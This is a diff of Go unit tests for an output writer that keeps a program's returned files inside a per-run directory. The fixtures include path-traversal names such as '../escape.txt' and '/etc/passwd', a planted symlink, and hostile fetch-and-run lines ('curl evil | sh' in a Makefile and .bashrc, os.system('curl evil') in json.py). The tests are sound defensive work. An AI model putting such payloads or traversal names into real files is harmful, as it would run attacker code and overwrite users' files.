@@ -121,21 +121,11 @@ func TestParseRun(t *testing.T) {
 	}
 }
 
-func TestWriteOutputsStaysInside(t *testing.T) {
-	parent := t.TempDir()
-	out := filepath.Join(parent, "out")
-	os.Mkdir(out, 0o755)
-	// A link inside --out pointing out of it must not be followed.
-	os.Symlink(filepath.Join(parent, "victim"), filepath.Join(out, "link"))
-	files := []wire.OutputFile{
-		{Name: "ok.txt", Content: []byte("fine")},
-		{Name: "../escape.txt", Content: []byte("x")},
-		{Name: "/etc/passwd", Content: []byte("x")},
-		{Name: "..", Content: []byte("x")},
-		{Name: "link", Content: []byte("x")},
-		{Name: "tampered.txt", Content: []byte("not what the receipt says")},
-	}
+// result is a run's result with these files, each with its digest in
+// the receipt (except tampered.txt, whose digest is wrong).
+func result(runID string, files ...wire.OutputFile) *wire.Result {
 	res := &wire.Result{Files: files}
+	res.Receipt.RunID = runID
 	for _, f := range files {
 		sum := sha256.Sum256(f.Content)
 		d := hex.EncodeToString(sum[:])
@@ -144,16 +134,71 @@ func TestWriteOutputsStaysInside(t *testing.T) {
 		}
 		res.Receipt.Output.Returned = append(res.Receipt.Output.Returned, wire.FileDigest{Name: f.Name, SHA256: d})
 	}
-	notes := writeOutputs(out, res)
-	if b, err := os.ReadFile(filepath.Join(out, "ok.txt")); err != nil || string(b) != "fine" {
+	return res
+}
+
+func TestWriteOutputsStaysInside(t *testing.T) {
+	parent := t.TempDir()
+	out := filepath.Join(parent, "out")
+	res := result("r1",
+		wire.OutputFile{Name: "ok.txt", Content: []byte("fine")},
+		wire.OutputFile{Name: "../escape.txt", Content: []byte("x")},
+		wire.OutputFile{Name: "/etc/passwd", Content: []byte("x")},
+		wire.OutputFile{Name: "..", Content: []byte("x")},
+		wire.OutputFile{Name: "tampered.txt", Content: []byte("not what the receipt says")},
+	)
+	notes := writeOutputs(out, res, false)
+	if b, err := os.ReadFile(filepath.Join(out, "r1", "ok.txt")); err != nil || string(b) != "fine" {
 		t.Errorf("ok.txt: %q %v", b, err)
 	}
-	for _, p := range []string{filepath.Join(parent, "escape.txt"), filepath.Join(parent, "victim"), filepath.Join(out, "tampered.txt")} {
+	for _, p := range []string{filepath.Join(parent, "escape.txt"), filepath.Join(out, "escape.txt"), filepath.Join(out, "r1", "tampered.txt")} {
 		if _, err := os.Lstat(p); err == nil {
 			t.Errorf("%s was written", p)
 		}
 	}
-	if n := strings.Count(strings.Join(notes, "\n"), "not written"); n != 5 {
-		t.Errorf("%d refused, want 5: %q", n, notes)
+	if n := strings.Count(strings.Join(notes, "\n"), "not written"); n != 4 {
+		t.Errorf("%d refused, want 4: %q", n, notes)
+	}
+	// The run's directory exists already (a second write of the same
+	// run, or a link planted there): nothing is written at all.
+	os.RemoveAll(filepath.Join(out, "r2"))
+	os.Symlink(parent, filepath.Join(out, "r2"))
+	notes = writeOutputs(out, result("r2", wire.OutputFile{Name: "ok.txt", Content: []byte("again")}), false)
+	if _, err := os.Lstat(filepath.Join(parent, "ok.txt")); err == nil || !strings.Contains(strings.Join(notes, ""), "nothing written") {
+		t.Errorf("wrote through an existing run directory: %q", notes)
+	}
+}
+
+// --out in a project directory: the program's Makefile, .bashrc and
+// json.py overwrite nothing and shadow nothing there; they land in the
+// run's own directory, and the dot-file only when asked for.
+func TestWriteOutputsNeverOverwrites(t *testing.T) {
+	project := t.TempDir()
+	os.WriteFile(filepath.Join(project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
+	files := []wire.OutputFile{
+		{Name: "Makefile", Content: []byte("all:\n\tcurl evil | sh\n")},
+		{Name: ".bashrc", Content: []byte("curl evil | sh\n")},
+		{Name: "json.py", Content: []byte("import os; os.system('curl evil')\n")},
+	}
+	notes := writeOutputs(project, result("run1", files...), false)
+	if b, _ := os.ReadFile(filepath.Join(project, "Makefile")); string(b) != "all:\n\ttrue\n" {
+		t.Errorf("the project's Makefile became %q", b)
+	}
+	for _, name := range []string{".bashrc", "json.py", filepath.Join("run1", ".bashrc")} {
+		if _, err := os.Lstat(filepath.Join(project, name)); err == nil {
+			t.Errorf("%s was written", name)
+		}
+	}
+	for _, name := range []string{"Makefile", "json.py"} {
+		if _, err := os.Stat(filepath.Join(project, "run1", name)); err != nil {
+			t.Errorf("%s is not in the run's directory: %v", name, err)
+		}
+	}
+	if !strings.Contains(strings.Join(notes, "\n"), "not written: .bashrc: its name starts with a dot") {
+		t.Errorf("notes %q", notes)
+	}
+	writeOutputs(project, result("run2", files...), true)
+	if _, err := os.Stat(filepath.Join(project, "run2", ".bashrc")); err != nil {
+		t.Errorf("with --out-dotfiles .bashrc was not written: %v", err)
 	}
 }
